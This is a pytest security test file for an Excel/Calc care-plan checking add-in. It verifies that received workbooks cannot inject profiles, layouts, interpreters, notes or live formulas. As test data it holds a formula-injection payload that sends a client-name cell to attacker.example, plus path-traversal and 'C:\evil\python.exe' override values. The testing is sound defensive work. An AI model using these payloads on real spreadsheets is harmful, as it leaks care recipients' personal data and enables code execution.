"""A received workbook must not steer 「点検する」 (Excel add-in and Calc extension share ``addin.flow``).

Care managers click the button on plans from other offices, hospitals and software exports. What such a
workbook carries — a settings sheet, notes shaped like ours, a forged state sheet or 方針と異なる理由 sheet,
text that looks like a formula, its own name — may change what is checked only in the open, and never runs
code, never takes the user's data with it and never writes a live formula. Threat model: docs/guide/README.md
(「受け取ったブックで押すとき」).
"""

from __future__ import annotations

import datetime as dt
import shutil
import sys

import pytest

from fake_xlwings import Book, Formula
from test_addin_live import samples  # noqa: F401 - the session fixture
from xl_careplan.addin import flow
from xl_careplan.addin import live as L
from xl_careplan.addin.live import CONF_SHEET, LiveWorkbook, run_on_caller
from xl_careplan.writer.annotate import NOTE_MARKER, STATE_MAGIC, STATE_SHEET

TODAY = dt.date(2026, 11, 25)
SILENT_PROFILE = 'name = "silent"\nselect = []\n'  # a profile switching every rule off


def _with_conf(samples, rows, name="07_period_and_dates.xlsx"):
    book = Book.from_xlsx(samples / name)
    conf = book.sheets.add(CONF_SHEET, after=book.sheets[-1])
    conf["A1"].value = rows
    return book


def _refused(samples, rows, why):
    """The click says why in Japanese and writes nothing."""
    book = _with_conf(samples, rows)
    before = book.snapshot()
    result = run_on_caller(book, today=TODAY)
    assert not result.ok and why in book.app.alerts[-1]["prompt"], rows
    assert book.snapshot() == before


# --- settings the workbook carries -------------------------------------------------------------


@pytest.mark.parametrize("value", ["recv/silent.toml", r"recv\silent.toml", "silent", "./silent.toml"])
def test_a_plans_profile_cannot_name_a_file(samples, tmp_path, monkeypatch, value):
    """Python runs in the venv's Scripts folder (Excel) or soffice's folder (Calc): a relative path from a
    received plan reaches a profile file unpacked next to it (..\\..\\Downloads\\…) that switches every rule off."""
    (tmp_path / "recv").mkdir()
    (tmp_path / "recv" / "silent.toml").write_text(SILENT_PROFILE, encoding="utf-8")
    (tmp_path / "silent").write_text(SILENT_PROFILE, encoding="utf-8")
    (tmp_path / "silent.toml").write_text(SILENT_PROFILE, encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    _refused(samples, [["PROFILE", value]], "組み込みのプロファイル")


@pytest.mark.parametrize("value", ["recv/layout.toml", r"..\..\Downloads\layout.toml", r"C:layout.toml",
                                   r"\layout.toml"])
def test_a_plans_layout_must_be_a_full_local_path(samples, tmp_path, monkeypatch, value):
    (tmp_path / "recv").mkdir()
    (tmp_path / "recv" / "layout.toml").write_text('[table1]\nuser_name = "第1表!B4"\n', encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    _refused(samples, [["LAYOUT", value]], "フルパスではありません")


def test_a_plans_layout_is_a_plain_small_file(samples, tmp_path):
    """A device would hang the button on read (C:\\CON on Windows; /dev/null here stands for it: it reads as an
    empty layout without the check), a huge file fill the memory."""
    big = tmp_path / "big.toml"
    with open(big, "wb") as fh:
        fh.truncate(flow.LAYOUT_MAX_BYTES + 1)
    for value, why in (("/dev/null", "レイアウトファイルではありません"), (str(tmp_path), "レイアウトファイルではありません"),
                       (str(big), "大きすぎます")):
        _refused(samples, [["LAYOUT", value]], why)


def test_a_plans_settings_sheet_chooses_profile_and_layout_only_and_says_so(samples):
    rows = [["Interpreter_Win", r"C:\evil\python.exe"], ["PYTHONPATH", r"C:\evil"], ["PROFILE", "national"],
            ["USE UDF SERVER", "True"]]
    book = _with_conf(samples, rows)
    assert flow.plan_settings(LiveWorkbook(book)) == {"PROFILE": "national"}
    result = run_on_caller(book, today=TODAY)
    assert result.ok and result.plan_settings == {"PROFILE": "national"}
    assert "PROFILE=national" in book.app.alerts[-1]["prompt"]


def test_the_add_in_settings_are_read_from_the_add_in_only(samples):
    """L.read_settings is the add-in's sheet: a plan named like the add-in's sheet adds nothing there."""
    book = _with_conf(samples, [["PROFILE", "asahikawa"]])
    assert L.read_settings(book) == {}


def test_the_same_limits_hold_on_a_file_and_so_in_calc(samples, tmp_path, monkeypatch):
    """flow.click is what the Calc extension runs: the limits are in the flow, not in the Excel adapter."""
    from openpyxl import load_workbook

    from xl_careplan.writer.editor import PackageWorkbook

    (tmp_path / "silent.toml").write_text(SILENT_PROFILE, encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    path = tmp_path / "plan.xlsx"
    shutil.copy(samples / "07_period_and_dates.xlsx", path)
    wb = load_workbook(path)
    wb.create_sheet(CONF_SHEET)["A1"] = "PROFILE"
    wb[CONF_SHEET]["B1"] = "silent.toml"
    wb.save(path)
    fw = PackageWorkbook(path)
    result = flow.click(fw, today=TODAY, settings={})
    fw.close()
    assert not result.ok and "組み込みのプロファイル" in result.message


# --- notes and state the workbook carries --------------------------------------------------------


def _noted_cells(book):
    return [(s.name, k) for s in book.sheets for k, n in s._notes.items() if NOTE_MARKER in n]


def test_what_the_user_types_below_our_note_survives_the_next_click(samples):
    book = Book.from_xlsx(samples / "07_period_and_dates.xlsx")
    run_on_caller(book, today=TODAY)
    lw = LiveWorkbook(book)
    (sheet, key), *_ = _noted_cells(book)
    ref = L.a1(*key)
    lw.set_note(sheet, ref, lw.get_note(sheet, ref) + "\n主治医に確認済み（11/20）")
    run_on_caller(book, today=TODAY)
    run_on_caller(book, today=TODAY)
    note = LiveWorkbook(book).get_note(sheet, ref)
    assert note.count("主治医に確認済み（11/20）") == 1 and note.count(NOTE_MARKER) == 1


def test_a_forged_state_sheet_and_marker_take_none_of_the_users_notes(samples):
    """A sender's very hidden state sheet listing cells, and notes carrying our marker, cost the user nothing:
    notes without our marker stay, and of a marked note only our marker and lines shaped like ours go."""
    book = Book.from_xlsx(samples / "07_period_and_dates.xlsx")
    first = book.sheets[0]
    first["A1"].add_note("利用者の家族の連絡先メモ")
    first["A2"].add_note(NOTE_MARKER + "\n前任の担当者からの引き継ぎ: 毎週火曜は通院")
    state = book.sheets.add(STATE_SHEET, after=book.sheets[-1])
    state["A1"].value = [[STATE_MAGIC, "2026-01-01", None, None, None],
                         ["kind", "sheet", "cell", "original", "applied"],
                         ["note", first.name, "A1", None, None], ["note", first.name, "A2", None, None],
                         ["fill", first.name, "A1", "fill:000000", "none"]]
    result = run_on_caller(book, today=TODAY)
    assert result.ok
    lw = LiveWorkbook(book)
    assert lw.get_note(first.name, "A1") == "利用者の家族の連絡先メモ"
    assert lw.get_note(first.name, "A2") == "前任の担当者からの引き継ぎ: 毎週火曜は通院"
    assert lw.get_fill(first.name, "A1") is None  # 'applied: none' is no colour of ours to undo


# --- acknowledgements the workbook carries ------------------------------------------------------


def test_acknowledged_findings_are_listed_with_where_the_reason_was_written(samples):
    """A 方針と異なる理由 sheet may come from the sender: what it silenced is listed with the row it came
    from, and the message says which sheet to read."""
    book = _with_conf(samples, [["PROFILE", "asahikawa"]], "10_acknowledged_deviation.xlsx")
    result = run_on_caller(book, today=TODAY)
    assert result.ok and result.acknowledged >= 1
    prompt = book.app.alerts[-1]["prompt"]
    assert "「方針と異なる理由」" in prompt
    rows = LiveWorkbook(book).read_sheet("点検結果")
    head = next(i for i, r in enumerate(rows) if r and r[0] == "重要度" and "方針と異なる理由" in r)
    assert rows[head][7] == "理由の場所"
    acked = rows[head + 1]
    assert str(acked[7]).startswith("方針と異なる理由!")
    res = book.sheets["点検結果"]
    assert res.range(f"H{head + 2}").hyperlink.startswith("#'方針と異なる理由'!")


# --- text that looks like a formula --------------------------------------------------------------


EVIL = '=HYPERLINK("http://attacker.example/?"&第1表!B4,"詳細")'


def test_cell_text_that_looks_like_a_formula_is_written_back_as_text(samples):
    """A reason or a sheet name from the sender starting with = + - @ is text in 点検結果, never a formula."""
    book = _with_conf(samples, [["PROFILE", "asahikawa"]], "10_acknowledged_deviation.xlsx")
    ack = book.sheets["方針と異なる理由"]
    for k, v in list(ack._values.items()):
        if isinstance(v, str) and len(v) > 20:
            ack._values[k] = EVIL  # the reason column
    result = run_on_caller(book, today=TODAY)
    assert result.ok and result.acknowledged >= 1
    res = book.sheets["点検結果"]
    assert not [v for v in res._values.values() if isinstance(v, Formula)]
    assert EVIL in res._values.values()


def test_the_workbook_name_after_an_equals_sign_is_not_another_book(samples, monkeypatch):
    """xlwings' Book.caller() cuts ``--wb=計画=x.xlsx`` at the second '=': 'Book1=x.xlsx' would find the user's
    own open Book1. The button checks that the book it got is the one that called."""
    import xlwings as xw

    import xl_careplan

    other = Book.from_xlsx(samples / "07_period_and_dates.xlsx", name="Book1")  # the user's own open plan
    monkeypatch.setattr(xw.Book, "caller", classmethod(lambda cls: other))
    monkeypatch.setattr(sys, "argv", ["-c", "--wb=Book1=計画書.xlsx", "--from_xl=1", "--hwnd=1"])
    before = other.snapshot()
    xl_careplan.main()
    assert other.snapshot() == before
    assert other.app.alerts and "Book1=計画書.xlsx" in other.app.alerts[-1]["prompt"]


def test_a_note_saved_by_libreoffice_keeps_its_line_breaks():
    """LibreOffice writes a note's line breaks as &#10; (and splits our marker over runs): read as a literal
    '&#10;', the user's lines were glued together and our old block taken for the user's text."""
    from xl_careplan.writer.notes import Comments

    xml = ('<?xml version="1.0" encoding="UTF-8"?><comments xmlns="http://schemas.openxmlformats.org/'
           'spreadsheetml/2006/main"><authors><author> </author></authors><commentList><comment ref="B2" authorId="0">'
           '<text><r><t xml:space="preserve">家族の連絡先&#10;長女 &amp; 次女</t></r></text></comment></commentList>'
           '</comments>')
    assert Comments(xml, NOTE_MARKER).get("B2") == "家族の連絡先\n長女 & 次女"


def test_the_office_report_writes_plan_text_that_looks_like_a_formula_as_text(tmp_path):
    """openpyxl stores any string starting with '=' as a formula: a received plan's file name or text must not
    become a live formula in the office manager's report (xl_careplan/report.py)."""
    import openpyxl

    from test_report_office import FR, _office
    from xl_careplan import report
    from xl_careplan.findings import Finding, Severity

    f = Finding(file=EVIL, rule="CP101", severity=Severity.ERROR, message="利用者名が空欄です", source="記載要領")
    results = [FR(EVIL if i == 0 else r.file, r.plan, [f] if i == 0 else []) for i, r in enumerate(_office())]
    out = report.write_office_report(results, tmp_path / "r.xlsx", today=dt.date(2026, 12, 1))
    wb = openpyxl.load_workbook(out)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert any(c.value == EVIL for c in cells)
    assert not [c.coordinate for c in cells if c.data_type == "f"]


def test_the_calling_book_is_found_whatever_the_case_or_unicode_form_of_its_name(samples, monkeypatch):
    """The check against a swapped book must not refuse the book that called (macOS may decompose プ)."""
    import unicodedata

    import xlwings as xw

    import xl_careplan

    book = Book.from_xlsx(samples / "07_period_and_dates.xlsx", name="ケアプラン.xlsx")
    monkeypatch.setattr(xw.Book, "caller", classmethod(lambda cls: book))
    monkeypatch.setattr(sys, "argv", ["-c", "--wb=" + unicodedata.normalize("NFD", "ケアプラン.XLSX"), "--from_xl=1"])
    xl_careplan.main()
    assert book.app.alerts[-1]["mode"] == "info" and "点検結果" in [s.name for s in book.sheets]


def test_the_command_line_names_where_each_reason_is_written(samples):
    """`check` in text: an acknowledged finding says which row its reason came from, as 点検結果 does."""
    from click.testing import CliRunner

    from xl_careplan.cli import cli

    res = CliRunner().invoke(cli, ["check", str(samples / "10_acknowledged_deviation.xlsx"), "--profile", "asahikawa"])
    lines = [line for line in res.output.splitlines() if "[理由記載済]" in line]
    assert lines and all("、方針と異なる理由!" in line for line in lines)
